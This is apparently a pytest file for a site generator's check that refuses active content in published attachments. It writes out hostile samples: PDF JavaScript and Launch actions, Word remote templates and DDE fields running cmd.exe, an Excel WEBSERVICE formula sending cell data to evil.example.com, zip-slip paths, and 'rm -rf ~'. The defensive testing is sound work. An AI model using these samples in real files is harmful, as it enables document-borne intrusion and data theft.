"""SAFE-FILE: active content in the files a site publishes, crafted here file by file (PDF objects
written by hand and with pypdf, Office files made by openpyxl and python-docx and then edited as
ZIP parts, ZIP archives, compound files, raw bytes), each attached to an item of its own in one
site that is built once; every case is asserted at the item's line that names its file."""

from __future__ import annotations

import hashlib
import io
import itertools
import json
import struct
import zipfile
from pathlib import Path

import docx
import openpyxl
import pypdf
import pytest
from openpyxl.workbook.defined_name import DefinedName

from gsgen.gate import attachments
from gsgen.gate.files import suffix
from tests.conftest import NOW
from tests.conftest import gsgen_here as gsgen
from tests.sites import edited, item, minimal_site, repacked, write_site

REPO = Path(__file__).resolve().parents[1]
EVIL = "evil.example.com"

# ---------------------------------------------------------------- PDF


def raw_pdf(catalog: str = "", page: str = "", *extra: str) -> bytes:
    """A PDF of one page with a correct xref table: `catalog` and `page` are added to those two
    dictionaries, `extra` are objects 4, 5, …"""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>",
        *extra,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{n} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def link(action: str) -> tuple[str, str]:
    """(page entries, object 4): a link annotation on the page that runs `action` when clicked."""
    return "/Annots [4 0 R]", f"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A {action} >>"


def written(change) -> bytes:
    """A PDF made by pypdf's writer, changed by `change(writer)`."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted(writer: pypdf.PdfWriter) -> None:
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")


# ---------------------------------------------------------------- Office files


def word_file() -> bytes:
    document = docx.Document()  # python-docx's template is a document saved by Word
    document.add_paragraph("关于做好冬春森林防火工作的通知")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


WORD = word_file()
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word_body(paragraphs: str) -> bytes:
    return repacked(WORD, {"word/document.xml": f"<w:document {W}><w:body>{paragraphs}</w:body></w:document>"})


def word_rels(*relationships: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    """Word's own document with `relationships` added to those of `part`."""
    with zipfile.ZipFile(io.BytesIO(WORD)) as package:
        empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        xml = package.read(part).decode() if part in package.namelist() else empty
    return repacked(WORD, {part: xml.replace("</Relationships>", "".join(relationships) + "</Relationships>")})


def external(kind: str, where: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="rId90" Type="{REL}/{kind}" Target="{where}"{mode}/>'


def complex_field(*pieces: str) -> str:
    """A field as Word writes it: begin, its instruction split over runs, separate, result, end."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def workbook(*cells: object, change=None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["项目", "金额"])
    for n, value in enumerate(cells, start=2):
        sheet.cell(n, 1, "项目")
        sheet.cell(n, 2, value)
    if change:
        change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def auto_open(book: openpyxl.Workbook) -> None:
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="Sheet!$A$1")


PPTX_SLIDE = (
    '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{REL}"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="x">'
    '<a:hlinkClick r:id="" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>'
)


# ---------------------------------------------------------------- archives, compound files, bytes

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48)
PLAIN_PDF = raw_pdf()


def zipped(members: dict[str, bytes], encrypted: tuple[str, ...] = ()) -> bytes:
    """A ZIP archive; the members named in `encrypted` marked as password-protected, in their local
    header and in the central directory, as an encrypting archiver marks them."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2025, 1, 6, 10, 0, 0)), body, zipfile.ZIP_DEFLATED)
        offsets = {e.filename: e.header_offset for e in archive.infolist() if e.filename in encrypted}
    data = bytearray(out.getvalue())
    for offset in offsets.values():
        data[offset + 6] |= 0x1
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length].decode() in encrypted:
            data[at + 8] |= 0x1
        at = data.find(b"PK\x01\x02", at + 46)
    return bytes(data)


def compound(*entries: tuple[str, int, tuple[int, ...]]) -> bytes:
    """A compound file (the .doc/.xls format) holding empty storages (type 1) and streams (type 2):
    (name, type, children's indexes). Children of one parent are chained as right siblings."""
    free, end, fat_sector, none = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    children = {n for _name, _kind, kids in entries for n in kids}
    named = [("Root Entry", 5, tuple(n for n in range(1, len(entries) + 1) if n not in children)), *entries]
    right = {}
    for _name, _kind, kids in named:
        for a, b in itertools.pairwise(kids):
            right[a] = b
    directory = bytearray()
    for n, (name, kind, kids) in enumerate(named):
        encoded = (name + "\0").encode("utf-16-le")
        directory += encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
        directory += struct.pack("<III", none, right.get(n, none), kids[0] if kids else none)
        directory += bytes(16 + 4 + 16) + struct.pack("<III", end, 0, 0)
    while len(directory) % 512:
        directory += bytes(64) + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", none, none, none) + bytes(48)
    directory_sectors = len(directory) // 512
    fat = [fat_sector] + [n + 2 for n in range(directory_sectors - 1)] + [end]
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    header = OLE_MAGIC + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 0x1000, end, 0, end, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108
    return header + fat_bytes + bytes(directory)


# ---------------------------------------------------------------- the cases

# (file name, bytes, what an error must name; "" for a file that passes, "?…" for an "unchecked" warning)
CASES = [
    # PDF
    ("openaction-js.pdf", raw_pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "打开时运行的 JavaScript"),
    (
        "names-js.pdf",
        raw_pdf("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "", "<< /S /JavaScript /JS (x) >>"),
        "JavaScript",
    ),
    ("launch.pdf", raw_pdf("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"), "/Launch"),
    ("setup-inside.pdf", written(lambda w: w.add_attachment("setup.exe", MZ)), "内嵌文件 setup.exe"),
    ("open-uri.pdf", raw_pdf(f"/OpenAction << /S /URI /URI (https://{EVIL}/x) >>"), f"自动访问外部网址（{EVIL}）"),
    ("page-aa.pdf", raw_pdf("", "/AA << /O 4 0 R >>", f"<< /S /URI /URI (http://{EVIL}/) >>"), EVIL),
    ("xfa.pdf", raw_pdf("/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", "", "<< >>"), "XFA"),
    (
        "richmedia.pdf",
        raw_pdf("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"),
        "RichMedia",
    ),
    ("submit.pdf", raw_pdf("", *link(f"<< /S /SubmitForm /F (https://{EVIL}/) >>")), "SubmitForm"),
    ("gotor.pdf", raw_pdf("", *link("<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")), "GoToR"),
    ("import.pdf", raw_pdf("", *link("<< /S /ImportData /F (data.fdf) >>")), "ImportData"),
    ("js-link.pdf", raw_pdf("", *link("<< /S /URI /URI (javascript:alert(1)) >>")), "javascript:"),
    (
        "next-js.pdf",
        raw_pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>"),
        "JavaScript",
    ),
    ("gov-link.pdf", raw_pdf("", *link("<< /S /URI /URI (https://www.gov.cn/zhengce/) >>")), ""),
    ("cited.pdf", raw_pdf("", *link(f"<< /S /URI /URI (https://{EVIL}/source) >>")), ""),  # a click, as on a page
    ("open-page.pdf", raw_pdf("/OpenAction [3 0 R /Fit]", *link(f"<< /S /URI /URI (https://{EVIL}/) >>")), ""),
    ("open-gov.pdf", raw_pdf("/OpenAction << /S /URI /URI (https://www.gov.cn/) >>"), ""),
    ("locked.pdf", written(encrypted), "?已加密"),
    ("broken.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog", "?"),
    # Word
    (
        "template.docx",
        word_rels(external("attachedTemplate", f"http://{EVIL}/t.dotm"), part="word/_rels/settings.xml.rels"),
        "attachedTemplate",
    ),
    ("ole-link.docx", word_rels(external("oleObject", f"http://{EVIL}/x.hta")), "oleObject"),
    ("remote-image.docx", word_rels(external("image", f"https://{EVIL}/track.png")), "image"),
    ("subdocument.docx", word_rels(external("subDocument", f"\\\\{EVIL}\\share\\a.docx")), "subDocument"),
    ("file-link.docx", word_rels(external("hyperlink", "file:///C:/Windows/System32/calc.exe")), "file:"),
    ("ddeauto.docx", word_body(complex_field("DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "DDEAUTO"),
    ("dde-simple.docx", word_body('<w:p><w:fldSimple w:instr=\' DDE "cmd" "/c calc"\'/></w:p>'), "DDE 域"),
    (
        "include.docx",
        word_body(f"<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"http://{EVIL}/p.png\" \\d'/></w:p>"),
        "INCLUDEPICTURE",
    ),
    ("includetext.docx", word_body(complex_field(f'INCLUDETEXT "\\\\\\\\{EVIL}\\\\s\\\\a.docx"')), "INCLUDETEXT"),
    ("macro.docx", repacked(WORD, {"word/vbaProject.bin": OLE_MAGIC + bytes(504)}), "宏"),
    ("activex.docx", repacked(WORD, {"word/activeX/activeX1.xml": "<ax/>"}), "ActiveX"),
    ("ole-object.docx", repacked(WORD, {"word/embeddings/oleObject1.bin": OLE_MAGIC}), "嵌入的 OLE 对象"),
    ("exe-part.docx", repacked(WORD, {"word/media/setup.exe": MZ}), "setup.exe"),
    (
        "fields.docx",
        word_body(complex_field(" PAGE ") + '<w:p><w:fldSimple w:instr=" DATE \\@ &quot;yyyy&quot; "/></w:p>'),
        "",
    ),
    ("gov-link.docx", word_rels(external("hyperlink", "https://www.gov.cn/zhengce/")), ""),
    ("plain.docx", WORD, ""),
    ("locked.docx", OLE_MAGIC + bytes(504), "?已加密"),
    # Excel
    ("webservice.xlsx", workbook(f'=WEBSERVICE("http://{EVIL}/?q="&A2)'), "WEBSERVICE"),
    ("dde.xlsx", workbook("=cmd|' /C calc'!A0"), "DDE 公式"),
    ("dde-sum.xlsx", workbook("=-2+3+cmd|' /C calc'!A0"), "DDE 公式"),
    ("hyperlink.xlsx", workbook(f'=HYPERLINK("http://{EVIL}/","详情")'), f"HYPERLINK 公式（{EVIL}）"),
    ("rtd.xlsx", workbook('=RTD("prog.id",,"x")'), "RTD"),
    ("call.xlsx", workbook('=CALL("kernel32","WinExec","JCJ","calc",0)'), "CALL"),
    ("auto-open.xlsx", workbook(1, change=auto_open), "Auto_Open"),
    ("external.xlsx", repacked(workbook(1), {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "其他工作簿"),
    ("macrosheet.xlsx", repacked(workbook(1), {"xl/macrosheets/sheet1.xml": "<xm/>"}), "宏表"),
    ("sums.xlsx", workbook("=SUM(B1:B2)", '=HYPERLINK("https://www.gov.cn/","国务院")', "a|b", 226.4), ""),
    ("pipe-names.xlsx", workbook("='a|b'!B2&\"x|y\""), ""),  # a `|` in a sheet name or a string is no DDE
    # PowerPoint
    (
        "program.pptx",
        zipped({"[Content_Types].xml": b"<Types/>", "ppt/slides/slide1.xml": PPTX_SLIDE.encode()}),
        "ppaction://program",
    ),
    # old Office formats (compound files)
    ("macro.doc", compound(("WordDocument", 2, ()), ("Macros", 1, (3,)), ("VBA", 1, ())), "宏（VBA）"),
    ("object.doc", compound(("WordDocument", 2, ()), ("ObjectPool", 1, (3,)), ("_1234", 1, ())), "嵌入的 OLE 对象"),
    ("macro.xls", compound(("Workbook", 2, ()), ("_VBA_PROJECT_CUR", 1, ())), "宏（VBA）"),
    ("plain.doc", compound(("WordDocument", 2, ()), ("1Table", 2, ())), ""),
    ("plain.wps", compound(("WordDocument", 2, ())), ""),
    ("locked.xls", compound(("EncryptionInfo", 2, ()), ("EncryptedPackage", 2, ())), "?已加密"),
    ("slides.ppt", compound(("PowerPoint Document", 2, ())), "?演示文稿"),
    # OpenDocument
    (
        "basic.odt",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": b"<m/>"}),
        "宏或脚本",
    ),
    (
        "events.ods",
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": b"<o><script:event-listener/></o>",
            }
        ),
        "事件",
    ),
    ("plain.odt", zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<o>text</o>"}), ""),
    # RTF
    ("object.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}", "嵌入的 OLE 对象"),
    ("plain.rtf", b"{\\rtf1\\ansi \\b bold\\b0 text}", ""),
    # ZIP
    ("exe.zip", zipped({"setup.exe": MZ}), "setup.exe"),
    ("bat.zip", zipped({"run.bat": b"@echo off\r\ncalc\r\n"}), "run.bat"),
    ("js.zip", zipped({"readme.js": b"WScript.Echo(1)"}), "readme.js"),
    ("vbs.zip", zipped({"a.vbs": b"MsgBox 1"}), "a.vbs"),
    ("lnk.zip", zipped({"通知.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60)}), "通知.lnk"),
    ("hta.zip", zipped({"a.hta": b"<hta:application>"}), "a.hta"),
    ("scr.zip", zipped({"photo.scr": MZ}), "photo.scr"),
    ("bidi.zip", zipped({"通知\u202efdp.exe": MZ}), "\\u202e"),
    ("docm.zip", zipped({"通知.docm": WORD}), "通知.docm"),
    ("html.zip", zipped({"index.html": b"<html><script>alert(1)</script></html>"}), "index.html"),
    ("svg.zip", zipped({"logo.svg": b"<svg onload='alert(1)'/>"}), "logo.svg"),
    ("climb.zip", zipped({"../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/run.txt": b"x"}), ".."),
    ("absolute.zip", zipped({"/etc/cron.d/job.txt": b"x"}), "绝对路径"),
    ("backslash.zip", zipped({"..\\..\\x.txt": b"x"}), "反斜杠"),
    ("disguised.zip", zipped({"readme.txt": MZ}), "readme.txt 实际上是Windows 程序"),
    ("page-named-txt.zip", zipped({"readme.txt": b"<!DOCTYPE html><script>"}), "readme.txt 实际上是网页"),
    ("nested.zip", zipped({"inner.zip": zipped({"setup.exe": MZ})}), "inner.zip 中可执行"),
    (
        "pdf-inside.zip",
        zipped({"a.pdf": raw_pdf("/OpenAction << /S /JavaScript /JS (x) >>")}),
        "a.pdf 中打开时运行的 JavaScript",
    ),
    (
        "docx-inside.zip",
        zipped({"b.docx": word_rels(external("oleObject", f"http://{EVIL}/x.hta"))}),
        "b.docx 中外部引用",
    ),
    (
        "locked-member.zip",
        zipped({"a.pdf": PLAIN_PDF, "secret.pdf": PLAIN_PDF}, encrypted=("secret.pdf",)),
        "?secret.pdf 已加密",
    ),
    ("deep.zip", zipped({"a.zip": zipped({"b.zip": zipped({"c.pdf": PLAIN_PDF})})}), "?套得太深"),
    (
        "documents.zip",
        zipped({"通知.pdf": PLAIN_PDF, "照片.jpg": JPEG, "表格.docx": WORD, "说明.txt": "说明".encode()}),
        "",
    ),
    ("archive.rar", b"Rar!\x1a\x07\x01\x00" + bytes(16), "?RAR"),
    # a file is what its name says
    ("page.jpg", b"<html><body><script>alert(1)</script></body></html>", "网页，不是 .jpg 文件"),
    ("vector.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "SVG 图片"),
    ("program.jpg", MZ, "Windows 程序"),
    ("elf.gif", b"\x7fELF\x02\x01\x01" + bytes(32), "Linux 程序"),
    ("script.png", b"#!/bin/sh\nrm -rf ~\n", "脚本"),
    ("words.pdf", b"just some words", "不是 .pdf 格式"),
    ("page.json", b"\xef\xbb\xbf  <!doctype html><script>alert(1)</script>", "网页，不是 .json 文件"),
    ("page.txt", b"<script>alert(1)</script>", "网页"),
    ("page.csv", b"<html><body>1,2</body></html>", "网页"),
    ("page.mp4", b"<!DOCTYPE html>", "网页"),
    ("word-page.doc", b"<html xmlns:o='urn:schemas-microsoft-com:office:office'><body>notice</body></html>", "网页"),
    ("model.txt", "MZ-123 型号说明：共 3 页，附图 2 张。".encode(), ""),  # text, not a program's header
    ("hashbang.txt", "#!重要：请于周五前报送".encode(), ""),
    ("photo.png", PNG, ""),
    ("photo.jpg", JPEG, ""),
    ("anim.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", ""),
    ("notes.txt", "会议纪要：<b> 是加粗".encode(), ""),
    ("table.csv", "项目,金额\n<script>,1\n".encode(), ""),
    ("data.json", b'{"html": "<html>"}', ""),
    ("video.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(40), ""),
]
BODY_LINE = 9  # the item's body line that links the file (BODY_CASES)
# Cases named from a body line (a link, a picture) rather than front matter
BODY_CASES = {"js-link.pdf", "page.jpg", "exe.zip", "gotor.pdf"}
RAW_HTML_CASES = {"gotor.pdf"}  # linked from HTML written in the body
ATTACHMENT_LINE = 6  # `  - {file: …}` under `attachments:`


def item_path(n: int) -> str:
    return f"content/gzdt/2025-01-0{1 + n % 9}-c{n:03d}"


LOGO = b"<!DOCTYPE html><script>alert(1)</script>"
LOGO_LINE = 12  # `  logo:` in config.yaml


def with_logo(config: str) -> str:
    line = "  error_report_url:"
    at = config.index("\n", config.index(line)) + 1
    return config[:at] + "  logo: /images/logo.png\n" + config[at:]


def case_files() -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {"config.yaml": with_logo, "content/images/logo.png": LOGO}
    for n, (name, data, _want) in enumerate(CASES):
        path = item_path(n)
        title = f"第{n}号材料的公告"
        if name in BODY_CASES:
            shown = f"![图]({name})" if suffix(name) == "jpg" else f"[下载附件]({name})"
            shown = f'<a href="{name}">下载附件</a>' if name in RAW_HTML_CASES else shown
            files[f"{path}.md"] = item(title, f"2025-01-0{1 + n % 9} 09:00", body=f"正文。\n\n{shown}\n")
        else:
            entry = f"\n  - {{file: {name}, title: 附件}}"
            files[f"{path}.md"] = item(title, f"2025-01-0{1 + n % 9} 09:00", attachments=entry)
        files[f"{path}/{name}"] = data
    return files


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, list[str]], str, Path]:
    root = tmp_path_factory.mktemp("attachments")
    site = write_site(root / "site", edited(minimal_site(), case_files()))
    run = gsgen("build", site, "--now", NOW, "-o", root / "out")
    found: dict[str, list[str]] = {}
    for line in run.out.splitlines():
        if "[SAFE-FILE]" in line:
            found.setdefault(line.split(":", 1)[0], []).append(line)
    return found, run.text, root / "out"


@pytest.mark.parametrize(("n", "name", "want"), [(n, name, want) for n, (name, _d, want) in enumerate(CASES)])
def test_each_crafted_file(built, n, name, want):
    found, text, _out = built
    assert "Traceback" not in text
    file = f"{item_path(n)}.md"
    lines = found.get(file, [])
    line = BODY_LINE if name in BODY_CASES else ATTACHMENT_LINE
    if not want:
        assert not lines, lines
        return
    level = "warn" if want.startswith("?") else "error"
    assert len(lines) == 1, (lines, text[-2000:])
    assert lines[0].startswith(f"{file}:{line}: {level}[SAFE-FILE] {name} "), lines
    assert want.lstrip("?") in lines[0], lines
    if level == "error":
        assert "请" in lines[0]  # and says how to fix it
    else:
        assert "未经检查" in lines[0]


def test_a_picture_config_yaml_names_is_checked_at_its_line(built):
    found, _text, _out = built
    assert [line.split(" (依据")[0] for line in found.get("config.yaml", [])] == [
        f"config.yaml:{LOGO_LINE}: error[SAFE-FILE] logo.png 文件实际上是网页，不是 .png 文件。"
        "文件内容与扩展名不符：请用原来的软件另存为扩展名所说的格式（网页、程序不能发布）"
    ]


def test_the_table_is_large_enough():
    refused = [c for c in CASES if c[2] and not c[2].startswith("?")]
    assert len(CASES) >= 40 and len(refused) >= 40


def test_nothing_refused_is_published(built):
    _found, _text, out = built
    assert not out.exists()  # the build stops: not one file of the site is written


def test_the_example_sites_files_all_pass():
    """The example site's PDFs, Word files, data and pictures are checked and found clean."""
    checked = 0
    for path in sorted((REPO / "content").rglob("*")):
        ext = suffix(path.name)
        if path.is_file() and ext not in ("md", "yaml", "svg"):
            verdict = attachments.Verdicts().read(path, ext)
            assert verdict == attachments.Verdict((), None, verdict.fix), (path, verdict)
            checked += 1
    assert checked >= 10


def test_a_warm_build_checks_no_unchanged_file(tmp_path, monkeypatch):
    news = "content/gzdt/2025-01-06-e"
    edit = {f"{news}.md": item("新年第一次工作会议召开", "2025-01-06 10:00", attachments="[{file: a.pdf}]")}
    site = write_site(tmp_path / "s", edited(minimal_site(), {**edit, f"{news}/a.pdf": PLAIN_PDF}))
    calls = []
    original = attachments.CHECKERS["pdf"]
    monkeypatch.setitem(attachments.CHECKERS, "pdf", lambda *a: (calls.append(1), original(*a)))
    for n in range(2):
        assert gsgen("build", site, "--now", NOW, "-o", tmp_path / f"out{n}").code == 0
    assert len(calls) == 1
    assert (site / ".gsgen-cache" / "verdicts.json").exists()


def test_a_file_only_a_template_links_is_checked_as_it_is_published(tmp_path):
    """A file no item or setting names, which a site's own template links to, is checked all the same."""
    footer = "themes/default/templates/partials/footer.html"
    edit = {
        footer: lambda t: t.replace("</footer>", '<a href="/images/guide.pdf">办事指南</a></footer>'),
        "content/images/guide.pdf": raw_pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    }
    run = gsgen("build", write_site(tmp_path / "s", edited(minimal_site(), edit)), "--now", NOW, "-o", tmp_path / "o")
    assert run.code == 1 and not (tmp_path / "o").exists(), run.text
    refused = [line for line in run.out.splitlines() if "[SAFE-FILE]" in line]
    assert len(refused) == 1 and refused[0].startswith("content/images/guide.pdf: error[SAFE-FILE] guide.pdf 含有"), (
        refused
    )
    assert "JavaScript" in refused[0]


def test_a_file_beyond_a_limit_is_said_to_be_unchecked_not_hung_on(monkeypatch):
    """The limits that bound one file's check: objects of a PDF, the time one file may take, what a
    ZIP unzips to; beyond each, what was not checked is said."""
    monkeypatch.setattr(attachments, "MAX_OBJECTS", 1)  # the page tree, then its page
    assert "PDF 对象超过 1 个" in attachments.inspect(PLAIN_PDF, "pdf").unchecked
    monkeypatch.setattr(attachments, "MAX_SECONDS", -1)
    late = attachments.inspect(zipped({"a.txt": b"a", "b.exe": MZ}), "zip")
    assert "检查超过" in late.unchecked and not late.found  # stopped before the second member
    monkeypatch.setattr(attachments, "MAX_UNZIPPED", 1000)
    bomb = attachments.inspect(zipped({"zeros.txt": bytes(2000)}), "zip")
    assert "压缩炸弹" in bomb.unchecked


def test_a_damaged_verdict_cache_is_discarded(tmp_path, monkeypatch):
    """verdicts.json is data read field by field: a value of the wrong type discards the file, and
    every file is checked again."""
    news = "content/gzdt/2025-01-06-e"
    edit = {f"{news}.md": item("新年第一次工作会议召开", "2025-01-06 10:00", attachments="[{file: a.pdf}]")}
    site = write_site(tmp_path / "s", edited(minimal_site(), {**edit, f"{news}/a.pdf": PLAIN_PDF}))
    assert gsgen("build", site, "--now", NOW, "-o", tmp_path / "o").code == 0
    kept = site / ".gsgen-cache" / "verdicts.json"
    document = json.loads(kept.read_text("utf-8"))
    assert len(document["entries"]) == 1
    document["entries"] = {key: {"found": "nothing", "unchecked": None, "fix": "pdf"} for key in document["entries"]}
    kept.write_text(json.dumps(document), "utf-8")
    calls = []
    original = attachments.CHECKERS["pdf"]
    monkeypatch.setitem(attachments.CHECKERS, "pdf", lambda *a: (calls.append(1), original(*a)))
    assert gsgen("build", site, "--now", NOW, "-o", tmp_path / "o").code == 0
    assert calls == [1]


def test_checks_ignore_silences_what_was_not_checked_never_what_was_found(tmp_path):
    """A site that has looked at its .rar by hand may silence the 「未经检查」 warning; the same entry
    never silences active content found in another file."""
    ignore = "checks:\n  ignore:\n    - {rule: SAFE-FILE, reason: 压缩包已由管理员人工检查}\n"
    edit = {
        "config.yaml": lambda config: config + ignore,
        "content/gzdt/2024-05-01-a.md": item(
            "附件公告",
            "2024-05-01 09:00",
            attachments="\n  - {file: a.rar, title: 附件}\n  - {file: b.pdf, title: 附件}",
        ),
        "content/gzdt/2024-05-01-a/a.rar": b"Rar!\x1a\x07\x01\x00" + bytes(32),
        "content/gzdt/2024-05-01-a/b.pdf": raw_pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    }
    run = gsgen("build", write_site(tmp_path / "s", edited(minimal_site(), edit)), "--now", NOW, "-o", tmp_path / "o")
    assert run.code == 1, run.text
    said = [line for line in run.out.splitlines() if "[SAFE-FILE]" in line]
    assert len(said) == 1 and said[0].startswith("content/gzdt/2024-05-01-a.md:"), said
    assert "error[SAFE-FILE] b.pdf" in said[0], said


def test_a_held_items_attachment_is_checked_when_it_is_scheduled(tmp_path):
    """An item dated after now (定时发布) is not published yet, but its files are checked in the build
    that schedules it: found on its day, the problem would stop the build meant to publish it."""
    edit = {
        "content/gzdt/2099-01-01-later.md": item(
            "定时发布的公告", "2099-01-01 09:00", attachments="\n  - {file: later.pdf, title: 附件}"
        ),
        "content/gzdt/2099-01-01-later/later.pdf": raw_pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    }
    run = gsgen("build", write_site(tmp_path / "s", edited(minimal_site(), edit)), "--now", NOW, "-o", tmp_path / "o")
    assert run.code == 1, run.text
    refused = [line for line in run.out.splitlines() if "[SAFE-FILE]" in line]
    assert refused and refused[0].startswith("content/gzdt/2099-01-01-later.md:6: error[SAFE-FILE] later.pdf"), refused


def test_a_forged_clean_verdict_does_not_publish_active_content(tmp_path, monkeypatch):
    """The cache is untrusted input: a verdicts.json written by someone else (a restored CI cache)
    that calls a PDF with JavaScript clean is not taken on trust when the cache is signed."""
    monkeypatch.setenv("GSGEN_CACHE_KEY", "secret-of-main")
    news = "content/gzdt/2025-01-06-e"
    evil = raw_pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    edit = {f"{news}.md": item("新年第一次工作会议召开", "2025-01-06 10:00", attachments="[{file: a.pdf}]")}
    site = write_site(tmp_path / "s", edited(minimal_site(), {**edit, f"{news}/a.pdf": PLAIN_PDF}))
    assert gsgen("build", site, "--now", NOW, "-o", tmp_path / "o").code == 0
    (site / f"{news}/a.pdf").write_bytes(evil)
    kept = site / ".gsgen-cache" / "verdicts.json"
    document = json.loads(kept.read_text("utf-8"))
    forged_key = hashlib.sha256(f"{attachments.VERSION}\0pdf\0".encode() + evil).hexdigest()
    document["entries"] = {forged_key: {"found": [], "unchecked": None, "fix": "pdf"}}
    kept.write_text(json.dumps(document), "utf-8")  # its signature no longer matches
    run = gsgen("build", site, "--now", NOW, "-o", tmp_path / "o")
    assert run.code == 1 and "error[SAFE-FILE] a.pdf" in run.out, run.text
